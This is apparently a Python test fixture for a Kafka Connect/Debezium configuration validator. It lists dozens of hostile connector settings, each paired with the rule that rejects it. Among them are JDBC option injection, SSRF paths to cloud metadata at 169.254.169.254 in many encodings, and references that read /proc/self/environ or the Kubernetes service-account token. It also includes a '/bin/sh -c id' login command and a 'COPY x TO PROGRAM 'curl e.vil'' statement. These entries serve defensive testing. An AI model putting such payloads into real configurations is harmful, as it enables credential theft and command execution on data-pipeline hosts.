"""URLs, references, keys and addresses that attack by their form, each refused: (rule, what is changed)."""

from connectors.preset import MARIADB_CLASS, MONGODB_CLASS, MYSQL_CLASS

TIMESCALE = {
    "transforms": "t",
    "transforms.t.type": "io.debezium.connector.postgresql.transforms.timescaledb.TimescaleDb",
}
LOGIN = "org.apache.kafka.common.security.plain.PlainLoginModule required"


def mongo(connection: str) -> dict[str, str]:
    return {"connector.class": MONGODB_CLASS, "mongodb.connection.string": connection}


FORMS: dict[str, tuple[str, dict[str, str]]] = {
    # The URL of the driver
    "the whole URL as its protocol": (
        "client-door",
        {
            "connector.class": MYSQL_CLASS,
            "database.protocol": "jdbc:mysql: //e.vil:3306/?allowLoadLocalInfile=true#",
        },
    ),
    "another database's URL": (
        "client-door",
        {"connector.class": MARIADB_CLASS, "database.protocol": "jdbc:mysql"},
    ),
    "a protocol where there is none": ("client-door", {"database.protocol": "jdbc:postgresql"}),
    "a protocol by reference": (
        "client-door",
        {"connector.class": MYSQL_CLASS, "database.protocol": "${file:/secrets/a:protocol}"},
    ),
    "options in the time to connect": (
        "injection",
        {"connector.class": MYSQL_CLASS, "driver.connectTimeout": "1&allowLoadLocalInfile=true"},
    ),
    "options in the time zone": (
        "injection",
        {"connector.class": MYSQL_CLASS, "database.connectionTimeZone": "UTC&autoDeserialize=true"},
    ),
    "a trust store on another host": (
        "injection",
        {"connector.class": MYSQL_CLASS, "database.ssl.truststore": "//e.vil/store"},
    ),
    "a property of the driver as a part of the URL": ("injection", {"database.dbname": "${password}"}),
    # References of providers that the worker does not have
    "options in a reference": (
        "injection",
        {"database.dbname": "${x:shop?socketFactory=org.evil.Factory&a=}"},
    ),
    "options in the port's reference": ("injection", {"database.port": "${x:5432/x?sslmode=disable}"}),
    "hosts in a reference": ("host", {"database.hostname": "${x:5432,169.254.169.254:80,b}"}),
    "a host behind a user in a reference": (
        "host",
        {"connector.class": MYSQL_CLASS, "database.hostname": "${x:y@169.254.169.254:80/z}"},
    ),
    "brokers in a reference": (
        "host",
        {"schema.history.internal.kafka.bootstrap.servers": "${x:a,e.vil:9092,b}"},
    ),
    "a second login module in a reference": (
        "client-door",
        {
            "schema.history.internal.producer.sasl.jaas.config": (
                f'{LOGIN} username="a" password="${{x:y"; org.evil.LoginModule required a="}}";'
            )
        },
    ),
    "a reference within a reference": ("injection", {"database.user": "${${lower:f}ile:/secrets/a:b}"}),
    # Transforms
    "a transform with a connection of its own": ("class", TIMESCALE),
    "a transform that reports to a file's address": (
        "class",
        {"transforms": "o", "transforms.o.type": "io.debezium.transforms.openlineage.OpenLineage"},
    ),
    "a transform of Kafka's package that Kafka does not bring": (
        "class",
        {"transforms": "x", "transforms.x.type": "org.apache.kafka.connect.transforms.Evil"},
    ),
    "a predicate of Kafka's package that Kafka does not bring": (
        "class",
        {"predicates": "x", "predicates.x.type": "org.apache.kafka.connect.transforms.predicates.Evil"},
    ),
    "a converter of Debezium's package that Debezium does not bring": (
        "class",
        {"converters": "x", "x.type": "io.debezium.connector.binlog.converters.Evil"},
    ),
    "a socket factory of a transform": (
        "client-door",
        {**TIMESCALE, "transforms.t.driver.socketFactory": "org.evil.Factory"},
    ),
    "driver options in a transform's database": (
        "injection",
        {**TIMESCALE, "transforms.t.database.dbname": "shop?socketFactory=org.evil.Factory"},
    ),
    "a program by a transform's connection": (
        "injection",
        {**TIMESCALE, "transforms.t.database.initial.statements": "COPY x TO PROGRAM 'curl e.vil'"},
    ),
    "the same under an alias with a dot": (
        "injection",
        {
            "transforms": "a.b",
            "transforms.a.b.type": "org.apache.kafka.connect.transforms.DropHeaders",
            "transforms.a.b.database.initial.statements": "SET ROLE postgres",
        },
    ),
    "the same under an alias that no list names": (
        "client-door",
        {"transforms.t.driver.socketFactory": "org.evil.Factory"},
    ),
    "a transform of somebody else under an alias with a dot": (
        "class",
        {"transforms": "a.b", "transforms.a.b.type": "org.evil.transform"},
    ),
    "aliases of which one holds the other": (
        "class",
        {"transforms": "a,a.database", "transforms.a.database.socketFactory": "org.evil.Factory"},
    ),
    "an alias with a space that is none": ("class", {"converters": "b\u00a0", "b\u00a0.type": "org.evil.c"}),
    "aliases that only the worker knows": (
        "class",
        {"converters": "${file:/x:names}", "b.type": "org.evil.c"},
    ),
    "a class that only the worker knows": ("class", {"converters": "b", "b.type": "${file:/x:class}"}),
    # MongoDB's connection string
    "a host behind a sign that ends nothing": ("host", mongo("mongodb://db.example#@169.254.169.254:80/")),
    "the same with a question mark": ("host", mongo("mongodb://db.example?@169.254.169.254:80/x")),
    "the same, percent-encoded": ("host", mongo("mongodb://%31%36%39.254.169.254:80/")),
    "a user in the connection string": ("host", mongo("mongodb://debezium@db.example:27017/")),
    "a login that asks the cloud": (
        "host",
        mongo("mongodb://db.example/?authMechanism=MONGODB-OIDC&authMechanismProperties=ENVIRONMENT:azure"),
    ),
    "the same without its properties": ("host", mongo("mongodb://db.example/?AuthMechanism=MONGODB-AWS")),
    "the same, percent-encoded and behind a semicolon": (
        "host",
        mongo("mongodb://db.example/?w=1;authmechanism=MONGODB%2DAWS"),
    ),
    "a proxy": ("host", mongo("mongodb://db.example/?proxyHost=169.254.169.254")),
    "a connection string that is spelt otherwise": ("host", mongo("MongoDB://db.example#@e.vil/")),
    # Secrets in sight
    "a secret as the placeholder": (
        "exfiltration",
        {"unavailable.value.placeholder": "${file:/secrets/a:password}"},
    ),
    "a secret as the topic of notifications": (
        "exfiltration",
        {"notification.sink.topic.name": "${file:/secrets/a:password}"},
    ),
    "a secret as a group": ("exfiltration", {"signal.kafka.groupId": "${file:/secrets/a:password}"}),
    "a secret as the name of a field": (
        "exfiltration",
        {"field.renames": "shop.articles.title:${file:/secrets/a:password}"},
    ),
    "a secret as the name of the session": (
        "exfiltration",
        {"driver.ApplicationName": "${file:/secrets/a:password}"},
    ),
    "a secret as an option of a converter": (
        "exfiltration",
        {
            "converters": "b",
            "b.type": "io.debezium.connector.binlog.converters.TinyIntOneToBooleanConverter",
            "b.selector": "${file:/secrets/a:password}",
        },
    ),
    "the worker's environment by a dot": (
        "exfiltration",
        {"database.password": "${file:/./proc/self/environ:X}"},
    ),
    "the same without a slash": ("exfiltration", {"database.password": "${file:proc/self/environ:X}"}),
    "the same by another provider": ("exfiltration", {"database.password": "${p:proc/self/environ:X}"}),
    "the same by many slashes": ("exfiltration", {"database.password": "${p:///proc//self/environ:X}"}),
    "a folder of the process": ("exfiltration", {"database.password": "${dir:/proc/self:environ}"}),
    "a way up at the end": ("exfiltration", {"database.password": "${dir:/secrets:..}"}),
    "the worker's account in the cluster": (
        "exfiltration",
        {"database.password": "${dir:/var/run/secrets/kubernetes.io/serviceaccount:token}"},
    ),
    # Doors
    "a command at login": (
        "client-door",
        {"producer.override.sasl.kerberos.kinit.cmd": "/bin/sh -c id"},
    ),
    "classes that share out partitions": (
        "client-door",
        {"schema.history.internal.consumer.partition.assignment.strategy": "org.evil.Assignor"},
    ),
    "options of shards": (
        "client-door",
        {"mongodb.connection.string.shard.params": "authMechanism=MONGODB-AWS"},
    ),
    "another topic of offsets": ("client-door", {"offsets.storage.topic": "other"}),
    "another publication by the slot": ("client-door", {"slot.stream.params": "publication_names=other"}),
    "another publication behind a harmless option": (
        "client-door",
        {"slot.stream.params": "messages=true; publication_names=other"},
    ),
    # Addresses
    "Amazon's metadata by name": ("host", {"database.hostname": "instance-data.ec2.internal"}),
    "Azure's metadata by name": ("host", {"database.hostname": "metadata.azure.internal"}),
    "Amazon's credentials of pods": ("host", {"database.hostname": "fd00:ec2::23"}),
    "metadata by a translated address": ("host", {"database.hostname": "64:ff9b::a9fe:a9fe"}),
    "metadata by a network's own translation": ("host", {"database.hostname": "64:ff9b:1::a9fe:a9fe"}),
    "metadata by a compatible address": ("host", {"database.hostname": "::169.254.169.254"}),
    "metadata by a name in hex": ("host", {"database.hostname": "a9fe-a9fe.sslip.io"}),
    "metadata in digits of another script": (
        "host",
        {"database.hostname": "\uff11\uff16\uff19.254.169.254"},
    ),
    "a broker behind a path": (
        "host",
        {"schema.history.internal.kafka.bootstrap.servers": "ssl://k1:9092/,169.254.169.254:80"},
    ),
    "a host behind a backslash": ("host", {"some.url": "http://169.254.169.254\\@db.example/"}),
    # Text
    "a line break of another code": ("injection", {"database.user": "debezium\u0085X"}),
    "the last control character": ("injection", {"database.user": "debezium\u009f"}),
    "a text that is written backwards": ("injection", {"database.user": "debezium\u202ex"}),
}
